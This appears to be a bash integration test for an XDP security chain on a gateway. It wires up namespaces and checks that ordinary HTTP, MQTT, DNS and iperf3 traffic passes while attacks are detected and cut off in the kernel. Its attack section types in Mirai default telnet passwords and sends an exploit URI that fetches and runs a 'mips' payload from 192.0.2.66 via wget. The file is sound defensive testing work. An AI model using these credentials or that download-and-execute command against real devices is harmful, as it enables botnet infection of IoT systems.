#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
#
# chains/security.toml as it stands, between real programs. tx sends a packet out
# of the interface it came in on, so all that a device and a server say to each
# other is led through the one port of the gateway:
#
#   device 192.0.2.1 ─ port1 ┐
#                            ├ switch ─ port0 ═══ eth0, the chain
#   server 192.0.2.2 ─ port2 ┘
#
# What comes from port1 or port2 goes to port0; what comes back there, to where
# its destination is, and broadcasts to whom they are not from.
#
# modes: native generic
# wires: veth cards
. "$(dirname "$0")/../lib.sh"

BYTES=${GALETTE_BYTES:-5000000} # of a download; four times as many are streamed
MORE=${GALETTE_REFUSED:-4} # packets of a flow that is cut off: senders wait longer for each
DEVICE=192.0.2.1
SERVER=192.0.2.2

# What is cut off does not end by itself.
finish() {
	local name
	for name in device server; do
		ip netns pids "$name" | xargs -r kill
	done
	[ ! -e "$PINS/eth0" ] || pin -q detach eth0
	in_ns switch "$GALETTE" -q detach port0
	cleanup
}
trap 'finish; [ $FAILED -eq 0 ] || exit 1' EXIT

# ---- the wires ----

redirect() {
	local from=$1 to=$2
	shift 2
	in_ns switch tc filter add dev "$from" ingress protocol all u32 "$@" \
		action mirred egress redirect dev "$to"
}

# A namespace without IPv6, whose announcements would be packets, too.
quiet_netns() {
	netns "$1"
	in_ns "$1" sh -c 'echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6
		echo 1 > /proc/sys/net/ipv6/conf/default/disable_ipv6'
}

# AF_XDP sees checksums as they are: offload is off, and they are complete.
# host NAME NUMBER ADDRESS: at a port of the switch. The last 16 bits of a MAC tell two.
host() {
	quiet_netns "$1"
	ip link add "port$2" netns switch type veth \
		peer name eth0 netns "$1" address "02:00:00:00:00:0$2"
	in_ns switch ip link set "port$2" up
	in_ns switch tc qdisc add dev "port$2" clsact
	in_ns "$1" ip addr add "$3/24" dev eth0
	in_ns "$1" ip link set eth0 up
	in_ns "$1" ethtool -K eth0 tx off tso off gso off > /dev/null
	[ "$MODE" = generic ] || redirect "port$2" port0 match u32 0 0
	redirect port0 "port$2" match u16 "$2" 0xffff at -10
}

quiet_netns switch
if [ "$WIRE" = cards ]; then
	cards_here 1 2
	card 1 port0 switch
	card 2 eth0
	in_ns switch ip link set port0 promisc on
	ip link set eth0 promisc on
else
	ip link add eth0 type veth peer name port0 netns switch
	ip link set eth0 up
	ethtool -K eth0 tx off tso off gso off > /dev/null
	in_ns switch ip link set port0 up
fi
in_ns switch tc qdisc add dev port0 clsact
host device 1 $DEVICE
host server 2 $SERVER
redirect port0 port1 match u16 0xffff 0xffff at -10 match u16 2 0xffff at -4
redirect port0 port2 match u16 0xffff 0xffff at -10 match u16 1 0xffff at -4
# A veth's peer takes what XDP_TX sends if it has XDP itself. Generic XDP leaves alone
# what tc has redirected, so there the way to port0 is XDP's, too.
if [ "$MODE" = generic ]; then
	printf '[[links]]\nfrom = "rx"\nto = ["%s"]\n' 'tx(port0)' > "$T/switch.toml"
	printf '[[links]]\nfrom = "rx(port0)"\nto = ["pass"]\n' >> "$T/switch.toml"
	in_ns switch "$GALETTE" -q attach --mode generic port0 port1 port2 "$T/switch.toml"
else
	echo 'links = [{ from = "rx", to = ["pass"] }]' | in_ns switch "$GALETTE" -q attach port0 -
fi || fail "XDP in the switch"

# ---- what is counted ----

snap() {
	pin -j show eth0 > "$T/show"
}

# packets LINK: as of the last snap, over the edge FROM:ACTION.
packets() {
	jq --arg link "$1" '[.links[] | select("\(.from):\(.action // "")" == $link) | .packets] | add' "$T/show"
}

upcalls() {
	jq '.links[] | select(.upcall) | .upcall.sent' "$T/show"
}

# More than $2 packets over LINK $1.
above() {
	snap
	[ "$(packets "$1")" -gt "$2" ]
}

# measured WHAT CMD ...: CMD, and how many packets it cost: those that the chain
# has looked into in $LOOKED, those of them that have left the kernel in $LEFT.
measured() {
	local what=$1 status looked left
	shift
	snap
	looked=$(packets access-control:inspect)
	left=$(upcalls)
	"$@"
	status=$?
	snap
	LOOKED=$(($(packets access-control:inspect) - looked))
	LEFT=$(($(upcalls) - left))
	echo "# $what: $LOOKED packets, of which $LEFT left the kernel"
	return $status
}

# ---- programs ----

# in_server NAME PROGRAM ...: in the background; what it says is in $T/NAME.log.
in_server() {
	nsenter --net=/run/netns/server "${@:2}" > "$T/$1.log" 2>&1 &
}

listens() {
	in_ns server ss -Hln "$1" "sport = :$2" | grep -q .
}

serve() {
	mkdir "$T/www"
	head -c "$BYTES" /dev/urandom > "$T/www/firmware"
	in_server http busybox httpd -f -vv -p 80 -h "$T/www"
	printf '%s\n' "listener 1883 $SERVER" "allow_anonymous true" "user root" \
		"log_dest stderr" "log_type subscribe" > "$T/mosquitto.conf"
	in_server mqtt mosquitto -c "$T/mosquitto.conf"
	in_server dns dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
		--address=/broker.example/$SERVER
	in_server iperf3 iperf3 -s
	# It says what it hears, to whom is there and to a file of its own.
	printf '#!/bin/sh\nprintf "dvr login: "\nexec tee "%s/heard.$$"\n' "$T" > "$T/login"
	printf '#!/bin/sh\necho SSH-2.0-OpenSSH_9.2p1\n' > "$T/sshd"
	chmod +x "$T/login" "$T/sshd"
	in_server telnet busybox nc -ll -p 23 -e "$T/login"
	in_server ssh busybox nc -ll -p 22 -e "$T/sshd"
	wait_for listens -t 80 && wait_for listens -t 1883 && wait_for listens -u 53 &&
		wait_for listens -t 23 && wait_for listens -t 22 && wait_for listens -t 5201
}

holds "HTTP, MQTT, DNS, ssh, telnet and iperf3 listen" serve
# A firewall on the gateway sees nothing of what the chain sends on.
holds "the gateway's own firewall refuses all" nft -f - << 'RULES'
table netdev gateway {
	chain in {
		type filter hook ingress device eth0 priority 0; policy accept;
		counter name refused drop
	}
	counter refused { }
}
RULES

if ! has_live_frames; then
	refuses_slow "$ROOT/chains/security.toml"
	exit
fi
expect 0 "attach" pin attach eth0 "$ROOT/chains/security.toml" || exit
equal "… without a warning" "" "$(cat "$T/err")"
snap
SLOW=$(jq .slowpath.pid "$T/show")
holds "galette-slow runs" kill -0 "$SLOW"

# ---- good clients ----

holds "ping" in_ns device ping -q -c 3 -i 0.05 $SERVER

download() {
	in_ns device curl -sS -o "$T/firmware" "http://$SERVER/firmware"
}

tell() {
	local sub
	seq -f "%g: the temperature in the living room is 21.5 degrees" 200 > "$T/told"
	in_ns device mosquitto_sub -h $SERVER -t home/room -q 1 -C 200 > "$T/got" &
	sub=$!
	wait_for grep -q home/room "$T/mqtt.log"
	in_ns device mosquitto_pub -h $SERVER -t home/room -q 1 -l < "$T/told"
	wait $sub
}

resolve() {
	in_ns device busybox nslookup broker.example $SERVER > "$T/out"
}

banner() {
	in_ns device nc -d $SERVER 22 > "$T/out"
}

stream() {
	in_ns device iperf3 -J -n $((4 * BYTES)) -c $SERVER > "$T/out"
}

measured "HTTP, a download of $BYTES bytes" download
holds "curl has got all of it" cmp "$T/www/firmware" "$T/firmware"
holds "only the first packets have left the kernel" \
	test "$LOOKED" -gt $((BYTES / 1500)) -a "$LEFT" -gt 8 -a "$LEFT" -lt 200
measured "MQTT, 200 messages there and back" tell
holds "the subscriber has got them all" cmp "$T/told" "$T/got"
holds "only the first packets have left the kernel" \
	test "$LOOKED" -gt "$LEFT" -a "$LEFT" -gt 16 -a "$LEFT" -lt 150
measured "DNS" resolve
prints "the name is found" "Address: $SERVER"
measured "ssh" banner
prints "the banner is there" "SSH-2.0-OpenSSH_9.2p1"
measured "iperf3, $((4 * BYTES)) bytes" stream
json "it has been sent" ".end.sum_sent.bytes >= $((4 * BYTES)) and .end.sum_received.bytes > 0"
holds "only the first packets have left the kernel" \
	test "$LOOKED" -gt $((4 * BYTES / 3000)) -a "$LEFT" -gt 16 -a "$LEFT" -lt 400

# ---- bad ones ----

# call: a telnet connection, $CALL to write to; what it says is in $T/screen.
call() {
	: > "$T/screen"
	exec {CALL}> >(exec nsenter --net=/run/netns/device nc $SERVER 23 > "$T/screen" 2>&1)
	CALLER=$!
	wait_for grep -q "login: " "$T/screen"
}

hang_up() {
	kill "$CALLER"
	wait "$CALLER" 2> /dev/null
	exec {CALL}>&-
}

# type_in WORD: and wait until it has come back.
type_in() {
	printf '%s' "$1" >&"$CALL"
	wait_for grep -q "$1" "$T/screen"
}

heard() {
	cat "$T"/heard.*
}

# stays_out WHAT CMD ...: CMD sends more of a flow that has been found out. All that
# comes of it ends in the kernel: at least $MORE packets more, of which none leaves it.
stays_out() {
	local what=$1 left attack
	shift
	snap
	left=$(upcalls)
	attack=$(packets weak-classifier:attack)
	"$@"
	wait_for above weak-classifier:attack $((attack + MORE - 1))
	echo "# $what: cut off, $(($(packets weak-classifier:attack) - attack)) more packets refused in the kernel"
	equal "$what: none of them leaves the kernel" "$left" "$(upcalls)"
}

more() {
	printf 'enable\r\nshell\r\n' >&"$CALL"
}

# login WHAT SID PART ...: type in the parts, of which the last is one too many.
login() {
	local what=$1 sid=$2 part attack
	shift 2
	call
	type_in "root"
	for part in "${@:1:$# - 1}"; do
		type_in "$part"
	done
	snap
	attack=$(packets dpi:attack)
	printf '%s' "${*: -1}" >&"$CALL"
	holds "$what is found out" wait_for above dpi:attack "$attack"
	stays_out "$what" more
	equal "$what: the server has not heard the end of it" 0 "$(heard | grep -Ec "${*: -1}|enable")"
	equal "$what: the client has no answer any more" 0 "$(grep -Ec "${*: -1}|enable" "$T/screen")"
	equal "$what: hits of rule $sid" 1 "$(pin map eth0 hits get "$sid")"
	hang_up
}

call
type_in "alice correct horse battery staple"
ok "a login that Mirai does not try"
hang_up
login "a Mirai login" 1000001 "xc3511"
login "a Mirai login in two segments" 1000002 "viz" "xv"

snap
ATTACKS=$(packets dpi:attack)
nsenter --net=/run/netns/device curl -sS -o "$T/answer" \
	"http://$SERVER/shell?cd+/tmp;wget+http://192.0.2.66/mips;chmod+777+mips;./mips" &
CURL=$!
holds "an exploit's URI is found out" wait_for above dpi:attack "$ATTACKS"
stays_out "an exploit's URI" :
equal "an exploit's URI: the server has not heard it" 0 "$(grep -c shell "$T/http.log")"
holds "an exploit's URI: curl waits for an answer" kill -0 $CURL
kill $CURL
wait $CURL 2> /dev/null
holds "a good client of the same server is served" download

# ---- what is known of the flows, and what became of all packets ----

pin map eth0 flow-state > "$T/flows"
# flows PORT FIELD: how many to that port have a 1 there.
flows() {
	grep "dst_port=$1," "$T/flows" | grep -c "\b$2=1\b"
}
equal "telnet: flows that are attacks" 2 "$(flows 23 attack)"
equal "HTTP: flows that are attacks" 1 "$(flows 80 attack)"
equal "HTTP: flows that are benign" 2 "$(flows 80 benign)"
holds "MQTT: flows that are benign" test "$(flows 1883 benign)" -ge 1
holds "iperf3: flows that are benign" test "$(flows 5201 benign)" -ge 1
equal "the others are not decided yet" "$(grep -c . "$T/flows")" \
	"$(($(grep -c "attack=1" "$T/flows") + $(grep -c "benign=1" "$T/flows") + $(grep -c "benign=0,attack=0" "$T/flows")))"

accounted() {
	snap
	jq -e '(.links[] | select(.upcall)) as $up | .slowpath.frames as $f |
		.missed == 0 and $up.upcall == { sent: $up.packets, absent: 0, lost: 0 } and
		$up.packets == ([.links[] | select(.from == "dpi") | .packets] | add) and
		$up.packets == ([.slowpath.pipes[].packets] | add) and
		([.slowpath.pipes[] | .lost[], .crashes] | add) == 0 and
		$f.total == $f.fill + $f.rx + $f.tx + $f.completion + $f.hand' "$T/show"
}
# A packet may be on its way.
wait_for accounted
holds "each packet and each frame of the slow path is accounted for" accounted
equal "one galette-slow has run all the time" "$SLOW" "$(jq .slowpath.pid "$T/show")"
equal "packets that the gateway's firewall has seen" 0 \
	"$(nft -j list counters | jq '.nftables[] | .counter? | select(.) | .packets')"
pin show eth0 | grep -E '^  (link|upcall|slow path|pipe)' | indent

# ---- and away ----

expect 0 "detach" pin detach eth0
galette_slow_ended() {
	[ "$(slow_processes)" = 0 ]
}
holds "galette-slow and its pipes have gone" wait_for galette_slow_ended
equal "no pin is left" "" "$(find "$PINS/eth0" -mindepth 1 2> /dev/null)"
